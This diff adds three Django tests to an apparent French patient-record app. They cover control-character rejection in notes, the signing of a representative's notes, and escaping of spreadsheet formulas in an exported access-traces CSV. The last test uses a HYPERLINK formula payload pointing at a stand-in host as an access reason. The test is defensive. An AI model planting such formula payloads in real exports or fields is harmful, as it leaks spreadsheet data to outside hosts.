@@ -706,3 +706,39 @@ def test_the_history_does_not_tell_of_documents_hidden_from_the_patient(personas
     )
     listed = {e.document_unique_id for e in record_traces_shown(caller=patient, record=personas.alice.record)}
     assert hidden.unique_id in listed
+
+
+def test_a_note_with_a_character_xml_cannot_hold_is_a_form_error(personas, alice_client):
+    before = DocumentEntry.objects.count()
+    for title, text in (("Note\x01", "texte"), ("Note", "a\x02b")):
+        answer = alice_client.post(
+            url("document_add"), {"type_code": "EXPPAT_2", "title": title, "text": text}
+        )
+        assert answer.status_code in {200, 400}  # was a server error
+        assert "caractère non autorisé" in answer.content.decode()
+    assert DocumentEntry.objects.count() == before
+
+
+def test_a_note_written_by_a_legal_representative_is_signed_with_their_name(personas):
+    parent = _representative_client(personas)
+    answer = parent.post(url("document_add"), {"type_code": "EXPPAT_3", "title": "Directives", "text": "x"})
+    assert answer.status_code == 302
+    author = DocumentEntry.objects.get(title="Directives").author_rows.get()
+    mother = personas.alice_as_mother
+    assert author.person_name == f"{mother.family_name.upper()} {mother.given_name}"
+
+
+def test_the_traces_file_holds_no_spreadsheet_formula(personas, alice_client):
+    import csv
+    import io
+    import zipfile
+
+    document = publish_for(personas, personas.alice)
+    reason = '=HYPERLINK("http://x.example/?"&A1,"clic")'
+    glass = personas.ps(personas.dr_petit, mode=AccessMode.BREAK_GLASS, reason=reason)
+    document_retrieve(caller=glass, unique_id=document.unique_id)
+    archive = zipfile.ZipFile(io.BytesIO(alice_client.get(url("export_zip")).content))
+    rows = list(csv.reader(io.StringIO(archive.read("TRACES.CSV").decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert f"'{reason}" in cells
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@"}]
